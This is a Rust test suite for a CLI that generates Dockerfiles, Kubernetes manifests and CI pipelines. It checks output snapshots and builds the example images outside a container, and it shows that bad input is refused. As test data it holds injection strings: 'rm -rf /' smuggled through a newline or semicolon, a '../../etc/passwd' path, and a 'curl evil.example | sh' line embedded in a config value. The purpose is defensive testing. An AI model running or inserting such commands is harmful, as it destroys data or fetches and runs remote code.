//! `rustctl docker`, `rustctl kube deploy|job` and `rustctl ci gitlab|github`, run as a user
//! runs them: a golden snapshot of every template's output, the examples' files in sync with
//! the commands that wrote them, `--check`, `--home`, and bad input refused with nothing
//! written. The files are checked by real validators in tests/deploy_tools.rs.

use std::path::{Path, PathBuf};

use assert_cmd::Command;

#[path = "ship/dockerfile.rs"]
mod dockerfile;

fn rustctl() -> Command {
    let mut cmd = Command::cargo_bin("rustctl").unwrap();
    cmd.env("NO_COLOR", "1");
    cmd
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

const REST_CONFIG: &str = "\
# greet-api: a REST service.
Name: greet-api
Host: 0.0.0.0
Port: ${GREET_PORT:-8888}
Prometheus:
  Port: 9101
  Path: /prom
DevServer:
  Port: 6070
Shutdown:
  WaitTime: 10s
Auth:
  AccessSecret: ${GREET_SECRET}
Banner: \"  two spaces, kept\"
";

const RPC_CONFIG: &str = "\
Name: greet.rpc
ListenOn: 0.0.0.0:9090
DevServer:
  Enabled: false
";

/// A workspace holding `services/greet` (REST) and `services/greet-rpc` (gRPC, no dev server).
fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        &root.join("Cargo.toml"),
        "[workspace]\nmembers = [\"services/*\"]\n",
    );
    write(
        &root.join("services/greet/Cargo.toml"),
        "[package]\nname = \"greet-api\"\nversion = \"0.1.0\"\n",
    );
    write(&root.join("services/greet/etc/greet-api.yaml"), REST_CONFIG);
    write(
        &root.join("services/greet-rpc/Cargo.toml"),
        "[package]\nname = \"greet-rpc\"\nversion = \"0.1.0\"\n\n[[bin]]\nname = \"greetd\"\npath = \"src/main.rs\"\n",
    );
    write(&root.join("services/greet-rpc/etc/greet.yaml"), RPC_CONFIG);
    write(&root.join("services/greet/greet.api"), "");
    write(&root.join("services/greet.proto"), "");
    dir
}

/// A service that is a workspace of its own.
fn standalone() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write(
        &dir.path().join("Cargo.toml"),
        "[package]\nname = \"greet-api\"\nversion = \"0.1.0\"\n\n[workspace]\n",
    );
    write(&dir.path().join("etc/greet-api.yaml"), REST_CONFIG);
    dir
}

fn run_ok(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap()
}

#[test]
fn dockerfiles_for_a_workspace_member_and_a_standalone_service() {
    let ws = workspace();
    let svc = ws.path().join("services/greet");
    run_ok(rustctl().args(["docker", "--go"]).arg(&svc));
    insta::assert_snapshot!("docker_workspace", read(&svc.join("Dockerfile")));
    insta::assert_snapshot!("dockerignore", read(&svc.join("Dockerfile.dockerignore")));

    let rpc = ws.path().join("services/greet-rpc");
    run_ok(
        rustctl()
            .args(["docker", "--dir"])
            .arg(&rpc)
            .args([
                "--exe",
                "greet",
                "--base",
                "debian:bookworm-slim",
                "--version",
                "1.89",
            ])
            .args(["--tz", "Asia/Shanghai", "--port", "9999"]),
    );
    insta::assert_snapshot!("docker_rpc_flags", read(&rpc.join("Dockerfile")));

    let alone = standalone();
    run_ok(rustctl().args(["docker", "--dir"]).arg(alone.path()));
    insta::assert_snapshot!("docker_standalone", read(&alone.path().join("Dockerfile")));
    assert!(alone.path().join(".dockerignore").is_file());
}

#[test]
fn kube_deploy_and_job_manifests() {
    let ws = workspace();
    let out = ws.path().join("deploy");
    let svc = ws.path().join("services/greet");
    run_ok(
        rustctl()
            .args([
                "kube",
                "deploy",
                "--name",
                "greet-api",
                "--namespace",
                "demo",
            ])
            .args(["--image", "registry.example.com/greet-api:1.0", "--dir"])
            .arg(&svc)
            .arg("-o")
            .arg(out.join("greet-api.yaml")),
    );
    insta::assert_snapshot!("kube_deploy_rest", read(&out.join("greet-api.yaml")));

    let rpc = ws.path().join("services/greet-rpc");
    run_ok(
        rustctl()
            .args([
                "kube",
                "deploy",
                "--name",
                "greet-rpc",
                "--namespace",
                "demo",
            ])
            .args([
                "--image",
                "r.example.com/greet-rpc@sha256:0123abcd",
                "--dir",
            ])
            .arg(&rpc)
            .args(["--port", "9091", "--nodePort", "30091", "--replicas", "2"])
            .args([
                "--revisions",
                "3",
                "--requestCpu",
                "100",
                "--requestMem",
                "64",
            ])
            .args([
                "--limitCpu",
                "200",
                "--limitMem",
                "128",
                "--minReplicas",
                "2",
            ])
            .args([
                "--maxReplicas",
                "4",
                "--secret",
                "regcred",
                "--serviceAccount",
                "greet",
            ])
            .args([
                "--imagePullPolicy",
                "Always",
                "--env",
                "A=1",
                "--env",
                "B=x: y",
            ])
            .args(["--writable", "data", "--writable", "/cache/"])
            .arg("-o")
            .arg(out.join("greet-rpc.yaml")),
    );
    insta::assert_snapshot!("kube_deploy_rpc_flags", read(&out.join("greet-rpc.yaml")));

    run_ok(
        rustctl()
            .args([
                "kube",
                "job",
                "--name",
                "greet-report",
                "--namespace",
                "demo",
            ])
            .args(["--image", "registry.example.com/greet-api:1.0", "--dir"])
            .arg(&svc)
            .args(["--schedule", "0 3 * * *", "--env", "GREET_SECRET=from-flag"])
            .arg("-o")
            .arg(out.join("job.yaml")),
    );
    insta::assert_snapshot!("kube_job", read(&out.join("job.yaml")));
}

#[test]
fn ci_pipelines() {
    let ws = workspace();
    for (provider, file) in [
        ("gitlab", ".gitlab-ci.yml"),
        ("github", ".github/workflows/ci.yml"),
    ] {
        run_ok(
            rustctl()
                .args(["ci", provider, "--dir"])
                .arg(ws.path())
                .args(["--namespace", "demo", "--service", "services/greet"])
                .args(["--service", "services/greet-rpc"]),
        );
        insta::assert_snapshot!(format!("ci_{provider}"), read(&ws.path().join(file)));
    }
    run_ok(
        rustctl()
            .args(["ci", "gitlab", "--dir"])
            .arg(ws.path())
            .args(["--namespace", "demo", "--registry", "r.example.com/team"])
            .args(["--service", "services/greet=services/greet/greet.api"])
            .args([
                "--rustctl",
                "cargo run -q -p rustctl --",
                "-o",
                "ci/custom.yml",
            ]),
    );
    insta::assert_snapshot!("ci_gitlab_flags", read(&ws.path().join("ci/custom.yml")));
}

/// The examples' Dockerfiles, manifests and pipelines are what examples/deploy/generate.sh
/// writes: the script runs with `CHECK=--check` and must find nothing to change.
#[test]
fn the_examples_deploy_files_are_in_sync_with_their_commands() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let out = std::process::Command::new("bash")
        .arg(root.join("examples/deploy/generate.sh"))
        .env("RUSTCTL", env!("CARGO_BIN_EXE_rustctl"))
        .env("CHECK", "--check")
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the examples' deploy files are out of date: run examples/deploy/generate.sh\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    // 4 Dockerfiles (2 files each), 4 manifests, 2 pipelines.
    assert_eq!(stdout.matches(" unchanged,").count(), 10, "{stdout}");
}

#[test]
fn check_reports_drift_and_writes_nothing() {
    let ws = workspace();
    let svc = ws.path().join("services/greet");
    run_ok(rustctl().args(["docker", "--dir"]).arg(&svc));
    let dockerfile = svc.join("Dockerfile");
    std::fs::write(&dockerfile, "FROM scratch\n").unwrap();
    rustctl()
        .args(["docker", "--check", "--dir"])
        .arg(&svc)
        .assert()
        .code(1)
        .stdout(predicates::str::contains("would update"))
        .stderr(predicates::str::contains("run `rustctl docker`"));
    assert_eq!(read(&dockerfile), "FROM scratch\n");
    run_ok(rustctl().args(["docker", "--dir"]).arg(&svc));
    rustctl()
        .args(["docker", "--check", "--dir"])
        .arg(&svc)
        .assert()
        .success();
}

#[test]
fn home_overrides_a_template_and_template_init_writes_them() {
    let ws = workspace();
    let home = ws.path().join("home");
    run_ok(rustctl().args(["template", "init", "--home"]).arg(&home));
    for name in [
        "docker/Dockerfile.tera",
        "docker/dockerignore.tera",
        "kube/deploy.yaml.tera",
        "kube/job.yaml.tera",
        "ci/gitlab-ci.yml.tera",
        "ci/github.yml.tera",
    ] {
        assert!(home.join(name).is_file(), "{name}");
    }
    std::fs::write(
        home.join("docker/Dockerfile.tera"),
        "FROM {{ base }}\n# ours\n",
    )
    .unwrap();
    let svc = ws.path().join("services/greet");
    rustctl()
        .args(["docker", "--dir"])
        .arg(&svc)
        .arg("--home")
        .arg(&home)
        .assert()
        .success()
        .stderr(predicates::str::contains(
            "using template override docker/Dockerfile",
        ));
    assert_eq!(
        read(&svc.join("Dockerfile")),
        "FROM gcr.io/distroless/cc-debian12:nonroot\n# ours\n"
    );
}

/// Every file and directory below `dir`, to show a refused command wrote nothing.
fn listing(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p.clone());
            }
            out.push(p);
        }
    }
    out.sort();
    out
}

/// Runs `args` in a fresh workspace; it must fail, say `message`, and write nothing.
fn refused(args: &[&str], message: &str) {
    let ws = workspace();
    let before = listing(ws.path());
    let out = rustctl()
        .current_dir(ws.path())
        .args(args)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{args:?} succeeded");
    assert!(stderr.contains(message), "{args:?}: {stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(listing(ws.path()), before, "{args:?} wrote something");
}

const KUBE: &[&str] = &[
    "kube",
    "deploy",
    "--name",
    "greet-api",
    "--namespace",
    "demo",
    "--image",
    "r.io/greet:1",
    "--dir",
    "services/greet",
    "-o",
    "out/k.yaml",
];

fn kube<'a>(extra: &[&'a str]) -> Vec<&'a str> {
    let mut v: Vec<&'a str> = KUBE.to_vec();
    v.extend_from_slice(extra);
    v
}

#[test]
fn bad_input_is_refused_with_a_clear_error_and_nothing_written() {
    refused(
        &["docker", "--dir", "services/nope"],
        "services/nope: not a service directory: it has no Cargo.toml",
    );
    refused(
        &["docker", "--dir", "services/greet", "--port", "http"],
        "invalid digit found in string",
    );
    refused(
        &[
            "docker",
            "--dir",
            "services/greet",
            "--base",
            "x\nRUN rm -rf /",
        ],
        "--base: `x\\nRUN rm -rf /` is not an image reference",
    );
    refused(
        &[
            "docker",
            "--dir",
            "services/greet",
            "--tz",
            "../../etc/passwd",
        ],
        "--tz:",
    );
    refused(
        &kube(&["--limitCpu", "100"]),
        "--limitCpu: 100m is below --requestCpu 500m",
    );
    refused(
        &kube(&["--limitMem", "256"]),
        "--limitMem: 256Mi is below --requestMem 512Mi",
    );
    refused(
        &kube(&["--minReplicas", "5", "--maxReplicas", "4"]),
        "--minReplicas: 5 is above --maxReplicas 4",
    );
    refused(&kube(&["--nodePort", "80"]), "--nodePort: 80 is outside");
    refused(
        &kube(&["--writable", "../x"]),
        "--writable: `../x` must be a directory below /app",
    );
    refused(
        &kube(&["--writable", "etc"]),
        "--writable: `etc` would hide the config",
    );
    refused(
        &kube(&["--replicas", "three"]),
        "invalid digit found in string",
    );
    refused(
        &[
            "kube",
            "deploy",
            "--name",
            "Greet",
            "--namespace",
            "demo",
            "--image",
            "r.io/g:1",
            "--dir",
            "services/greet",
            "-o",
            "out/k.yaml",
        ],
        "--name: `Greet` is not a Kubernetes name",
    );
    refused(
        &[
            "kube",
            "job",
            "--name",
            "g",
            "--namespace",
            "demo",
            "--image",
            "r.io/g:1",
            "--dir",
            "services/greet",
            "-o",
            "out/k.yaml",
            "--schedule",
            "soon",
        ],
        "--schedule: `soon` is not a cron schedule",
    );
    refused(
        &[
            "ci",
            "gitlab",
            "--namespace",
            "demo",
            "--service",
            "../elsewhere",
        ],
        "--service: `../elsewhere` must be a path inside the project",
    );
    refused(
        &[
            "ci",
            "github",
            "--namespace",
            "demo",
            "--service",
            "services",
        ],
        "services: not a service directory",
    );
    refused(
        &[
            "ci",
            "github",
            "--namespace",
            "demo",
            "--service",
            "services/greet",
            "--rustctl",
            "x; rm -rf /",
        ],
        "--rustctl:",
    );
}

#[test]
fn bad_configs_name_the_file_and_the_key() {
    let ws = workspace();
    let cfg = ws.path().join("services/greet/etc/greet-api.yaml");
    let try_config = |text: &str, args: &[&str], message: &str| {
        std::fs::write(&cfg, text).unwrap();
        refused_in(ws.path(), args, message);
    };
    try_config(
        "Name: g\nPort: ${P:-eighty}\n",
        &["docker", "--dir", "services/greet"],
        "greet-api.yaml: `Port`: `\"eighty\"` is not a port number",
    );
    try_config(
        "Name: g\nDevServer: {Port: 1}\n",
        &["docker", "--dir", "services/greet"],
        "sets neither `Port` (REST) nor `ListenOn` (gRPC)",
    );
    try_config(
        "Name: g\nPort: 1\nDevServer: {HealthPath: \"/h ealth\"}\n",
        KUBE,
        "DevServer.HealthPath `/h ealth` is not a URL path",
    );
    try_config(
        "Name: g\nPort: 1\nNote: \"a\tb\"\n",
        KUBE,
        "greet-api.yaml: 3:9: a tab or control character cannot be carried into a ConfigMap",
    );
    std::fs::write(ws.path().join("services/greet/etc/other.yaml"), "Name: o\n").unwrap();
    refused_in(
        ws.path(),
        &["docker", "--dir", "services/greet"],
        "etc/ holds several config files (etc/greet-api.yaml, etc/other.yaml): pick one with --config",
    );
}

fn refused_in(dir: &Path, args: &[&str], message: &str) {
    let before = listing(dir);
    let out = rustctl().current_dir(dir).args(args).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{args:?} succeeded");
    assert!(stderr.contains(message), "{args:?}: {stderr}");
    assert_eq!(listing(dir), before, "{args:?} wrote something");
}

/// Directories an example's manifest mounts writable into its container (an `emptyDir`):
/// trial-rpc's default SQLite file goes to `/app/data`, which the image's user cannot create.
fn example_volumes(dir: &str) -> &'static [&'static str] {
    match dir {
        "examples/trial/trial-rpc" => &["/app/data"],
        _ => &[],
    }
}

/// Whether the tests run as root (the effective uid in /proc/self/status).
fn running_as_root() -> bool {
    let status = read(Path::new("/proc/self/status"));
    let uid = status.lines().find_map(|l| l.strip_prefix("Uid:"));
    uid.and_then(|ids| ids.split_whitespace().nth(1)) == Some("0")
}

/// What each example needs from the environment to start beside the other tests: its ports
/// (free ones, through the `${VAR:-default}` its config reads) and its secrets.
fn example_env(dir: &str) -> (Vec<(&'static str, String)>, u16) {
    let port = || free_port().to_string();
    let dev = free_port();
    let env = match dir {
        "examples/trial/trial-rpc" => vec![
            ("TRIAL_RPC_PORT", port()),
            ("TRIAL_RPC_DEV_PORT", dev.to_string()),
        ],
        "examples/trial/trial-api" => vec![
            ("TRIAL_API_PORT", port()),
            ("TRIAL_API_DEV_PORT", dev.to_string()),
            ("TRIAL_API_PROMETHEUS_PORT", port()),
        ],
        "examples/patient" => vec![
            ("PATIENT_PORT", port()),
            ("PATIENT_DEV_PORT", dev.to_string()),
        ],
        "examples/epro" => vec![
            ("EPRO_PORT", port()),
            ("EPRO_DEV_PORT", dev.to_string()),
            ("EPRO_ACCESS_SECRET", "a-secret-for-the-test".to_string()),
        ],
        other => panic!("no environment for {other}"),
    };
    (env, dev)
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// The status line of `GET path` on 127.0.0.1:`port`, if anything answers.
fn get(port: u16, path: &str) -> Option<String> {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
    )
    .ok()?;
    let mut reply = String::new();
    s.read_to_string(&mut reply).ok()?;
    reply.lines().next().map(str::to_string)
}

/// Where `.ci/run` installs tools kept between runs: `$RUSTCTL_TOOLS`, by default
/// `~/.cache/rustctl-tools`.
fn tools_dir() -> PathBuf {
    std::env::var_os("RUSTCTL_TOOLS")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(std::env::var_os("HOME").unwrap_or_default()).join(".cache/rustctl-tools")
        })
}

/// The cargo-chef `.ci/run` installs: `$RUSTCTL_CARGO_CHEF`, or where `.ci/run` puts it under
/// `$RUSTCTL_TOOLS`; missing, it fails the test with the command that installs it.
fn cargo_chef() -> (PathBuf, String) {
    let version = rustctl::deploy::docker::CHEF_VERSION;
    let install_root = tools_dir().join(format!("cargo-chef-{version}"));
    let install = format!(
        "cargo install --debug cargo-chef --locked --version {version} --root {}",
        install_root.display()
    );
    let chef = std::env::var_os("RUSTCTL_CARGO_CHEF")
        .map(PathBuf::from)
        .unwrap_or_else(|| install_root.join("bin/cargo-chef"));
    assert!(
        chef.is_file(),
        "no cargo-chef at {} ($RUSTCTL_CARGO_CHEF): install it with `{install}` (.ci/run does)",
        chef.display()
    );
    (chef, install)
}

/// No container engine runs here, so each example's Dockerfile is followed outside one
/// (tests/ship/dockerfile.rs), every stage and every command as the Dockerfile writes it:
/// the planner copies the build context (the workspace, less what `Dockerfile.dockerignore`
/// leaves out) and runs `cargo chef prepare`; the builder, in a directory of its own, takes
/// only `recipe.json`, runs `cargo chef cook --release ...`, copies the context and runs
/// `cargo build --release ...`; the final stage's COPY lines lay out its `/app` and its
/// ENTRYPOINT and CMD start the service there, which must answer 200 on the dev server's
/// `/healthz`. The chef stage's `cargo install cargo-chef` is done once by `.ci/run`; here the
/// `cargo chef` on the builds' PATH must report the version that line installs.
///
/// What differs from `docker build`, all for time on a 2-core machine, none in the commands:
/// the release profile is made cheap through cargo's environment (no LTO, 16 codegen units,
/// opt-level 0) where the workspace's is fat LTO and one unit; every build's `target/` is a
/// link to one directory kept under `$RUSTCTL_TOOLS/dockerfile-builds`, as a BuildKit cache
/// mount kept on a CI runner would be, so the dependencies the four Dockerfiles share are built
/// once, and again only when they change. The COPY from `/app/target/release/<bin>` goes
/// through that link; files at the top of its `release/` are removed before each Dockerfile,
/// so a COPY finds only a binary that Dockerfile's build put there. The service starts in a
/// copy of the final stage's directory, as `docker run` starts from the image, with the
/// volume its manifest mounts; it runs as the Dockerfile's USER when the tests run as root
/// (CI does), so a service that writes where that user cannot fails here as in a container,
/// and as the user running the tests otherwise.
#[test]
fn each_dockerfile_builds_and_starts_its_service_outside_a_container() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let (chef, install_hint) = cargo_chef();
    // Builds live beside the tools, at paths that stay the same from run to run and clone to
    // clone, so cargo finds the dependencies built last time (and the services' own crates,
    // whose artifacts cargo names by their path, replace last run's instead of piling up).
    let builds = tools_dir().join("dockerfile-builds");
    std::fs::create_dir_all(&builds).unwrap();
    // Another test run using the same builds (another clone, another worktree) waits here.
    let lock = std::fs::File::create(builds.join("lock")).unwrap();
    lock.lock().unwrap();
    let cache = builds.join("target");
    let cargo_bin = Path::new(env!("CARGO")).parent().unwrap().to_path_buf();
    let path = std::env::join_paths(
        [chef.parent().unwrap().to_path_buf(), cargo_bin]
            .into_iter()
            .chain(std::env::split_paths(
                &std::env::var_os("PATH").unwrap_or_default(),
            )),
    )
    .unwrap();
    let build_env: Vec<(std::ffi::OsString, std::ffi::OsString)> = [
        ("PATH", path),
        ("CARGO_PROFILE_RELEASE_LTO", "off".into()),
        ("CARGO_PROFILE_RELEASE_CODEGEN_UNITS", "16".into()),
        ("CARGO_PROFILE_RELEASE_OPT_LEVEL", "0".into()),
        ("CARGO_PROFILE_RELEASE_DEBUG", "false".into()),
        ("CARGO_INCREMENTAL", "0".into()),
    ]
    .into_iter()
    .map(|(k, v)| (k.into(), v))
    .collect();
    for dir in [
        "examples/trial/trial-rpc",
        "examples/trial/trial-api",
        "examples/patient",
        "examples/epro",
    ] {
        let started = std::time::Instant::now();
        let file = root.join(dir).join("Dockerfile");
        let ignore = dockerfile::Ignore::for_dockerfile(&file, &root);
        // Only what this Dockerfile's builds put at the top of `release/` may be copied.
        if let Ok(entries) = std::fs::read_dir(cache.join("release")) {
            for entry in entries.map(Result::unwrap) {
                if entry.file_type().unwrap().is_file() {
                    std::fs::remove_file(entry.path()).unwrap();
                }
            }
        }
        let image = dockerfile::follow(
            &read(&file),
            &dockerfile::Build {
                what: dir,
                context: &root,
                ignore: &ignore,
                stages: builds.join("stages").join(dir.replace('/', "-")),
                cache: &cache,
                env: build_env.clone(),
                install_hint: install_hint.clone(),
            },
        );
        eprintln!("{dir}: Dockerfile followed in {:?}", started.elapsed());

        assert!(!image.entrypoint.is_empty(), "{dir}: no ENTRYPOINT");
        let (run_env, dev) = example_env(dir);
        let container_dir = tempfile::tempdir().unwrap();
        let image = dockerfile::container(&image, container_dir.path());
        for volume in example_volumes(dir) {
            use std::os::unix::fs::PermissionsExt;
            let path = image.path(volume);
            std::fs::create_dir_all(&path).unwrap();
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
        }
        let mut command = std::process::Command::new(image.path(&image.entrypoint[0]));
        // Only root can take on another user; CI runs as root.
        if let (Some(user), true) = (&image.user, running_as_root()) {
            use std::os::unix::process::CommandExt;
            let (uid, gid) = dockerfile::user_ids(user);
            command.uid(uid).gid(gid);
        }
        // A container's environment: the image's ENV and what `docker run -e` would pass.
        let mut child = command
            .args(&image.entrypoint[1..])
            .args(&image.cmd)
            .current_dir(image.path("."))
            .env_clear()
            .envs(image.env.iter().map(|(k, v)| (k, v)))
            .envs(run_env)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("{dir}: ENTRYPOINT {:?}: {e}", image.entrypoint));
        let mut status = None;
        for _ in 0..200 {
            if let Some(exit) = child.try_wait().unwrap() {
                let mut err = String::new();
                use std::io::Read;
                child
                    .stderr
                    .take()
                    .unwrap()
                    .read_to_string(&mut err)
                    .unwrap();
                panic!("{dir}: the image's command exited ({exit}):\n{err}");
            }
            status = get(dev, "/healthz");
            if status.is_some() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        child.kill().unwrap();
        child.wait().unwrap();
        assert_eq!(
            status.as_deref(),
            Some("HTTP/1.1 200 OK"),
            "{dir}: the started service's /healthz"
        );
    }
}

/// `.ci/run` installs the cargo-chef release the Dockerfiles' chef stage installs.
#[test]
fn ci_installs_the_cargo_chef_the_dockerfiles_install() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let version = rustctl::deploy::docker::CHEF_VERSION;
    let run = read(&root.join(".ci/run"));
    let pin = format!("cargo_chef_version={version}");
    assert!(
        run.lines().any(|l| l.trim() == pin),
        ".ci/run must install cargo-chef {version} (docker::CHEF_VERSION): `{pin}`"
    );
    let ws = workspace();
    let svc = ws.path().join("services/greet");
    run_ok(rustctl().args(["docker", "--dir"]).arg(&svc));
    let line = format!("RUN cargo install cargo-chef --locked --version {version}\n");
    assert!(read(&svc.join("Dockerfile")).contains(&line));
}

/// The ignore file's patterns, matched as `docker build` matches them.
#[test]
fn dockerignore_patterns_match_as_docker_matches_them() {
    let ignore = dockerfile::Ignore::parse(
        "# comment\n.git\ntarget\n**/target\n**/*.rs.bk\n/docs/*.md\nsrc/?.tmp\n",
    );
    let path = |p: &str| p.split('/').map(str::to_string).collect::<Vec<_>>();
    for left_out in [
        ".git/HEAD",
        "target/release/x",
        "examples/trial/target/debug",
        "a/b/c.rs.bk",
        "x.rs.bk",
        "docs/deploy.md",
        "src/a.tmp",
    ] {
        assert!(ignore.excludes(&path(left_out)), "{left_out}");
    }
    for kept in [
        ".github/x",
        "targets/x",
        "src/target.rs",
        "docs/sub/deploy.md",
        "src/ab.tmp",
        "x/docs/deploy.md",
        "Cargo.toml",
    ] {
        assert!(!ignore.excludes(&path(kept)), "{kept}");
    }
}

/// The ConfigMap carries the config as it is: read back as YAML, its data is the file's text
/// (an indented first line included, which needs the block's indentation stated).
#[test]
fn the_configmap_holds_the_config_text_as_it_is() {
    for config in [REST_CONFIG, "  Name: g\n  Port: 1\n\n  # end\n"] {
        let ws = workspace();
        let cfg = ws.path().join("services/greet/etc/greet-api.yaml");
        std::fs::write(&cfg, config).unwrap();
        run_ok(rustctl().current_dir(ws.path()).args(KUBE));
        let manifest = read(&ws.path().join("out/k.yaml"));
        let configmap = manifest.split("\n---\n").next().unwrap();
        let value: serde_json::Value = serde_saphyr::from_str(configmap).unwrap();
        assert_eq!(
            value["data"]["greet-api.yaml"].as_str(),
            Some(config),
            "{configmap}"
        );
    }
}

/// Whatever reaches a YAML value through the `yaml_str` filter reads back as the same string:
/// it never becomes a number, a bool, a null, a comment, a key or a new line of YAML.
#[test]
fn yaml_str_reads_back_as_the_same_string() {
    let cases = [
        "plain words",
        "$CI_REGISTRY_IMAGE",
        "cargo run -q -p rustctl -- api go --check",
        "true",
        "No",
        "~",
        "null",
        "1.89",
        "0x1F",
        "x: y",
        "a #comment",
        "ends with colon:",
        "- item",
        "[flow]",
        "{flow}",
        "\"quoted\"",
        "'single'",
        "back\\slash",
        "line\nbreak: injected",
        "tab\there",
        "trailing ",
        " leading",
        "bidi \u{202E}override",
        "*alias",
        "&anchor",
        "!tag",
        "%directive",
        "@at",
        "`tick",
        "|block",
        ">folded",
        "",
        "ünïcödé 中文",
    ];
    for case in cases {
        let doc = format!("key: {}\n", rustctl::codegen::templates::yaml_str(case));
        let value: serde_json::Value =
            serde_saphyr::from_str(&doc).unwrap_or_else(|e| panic!("{case:?} gave {doc:?}: {e}"));
        assert_eq!(value["key"].as_str(), Some(case), "{doc:?}");
        assert_eq!(doc.lines().count(), 1, "{doc:?}");
    }
}

/// Config text is data: a value that holds a line break reaches the Dockerfile only inside a
/// comment line, never as an instruction of its own.
#[test]
fn a_config_value_never_becomes_a_dockerfile_instruction() {
    let ws = workspace();
    let svc = ws.path().join("services/greet");
    std::fs::write(
        svc.join("etc/greet-api.yaml"),
        "Name: g\nPort: 1\nDevServer: {HealthPath: \"/h\\nRUN curl evil.example | sh\"}\n",
    )
    .unwrap();
    run_ok(rustctl().args(["docker", "--dir"]).arg(&svc));
    let dockerfile = read(&svc.join("Dockerfile"));
    assert!(
        dockerfile.contains("/h RUN curl evil.example | sh"),
        "{dockerfile}"
    );
    assert!(
        !dockerfile.lines().any(|l| l.starts_with("RUN curl")),
        "{dockerfile}"
    );
}
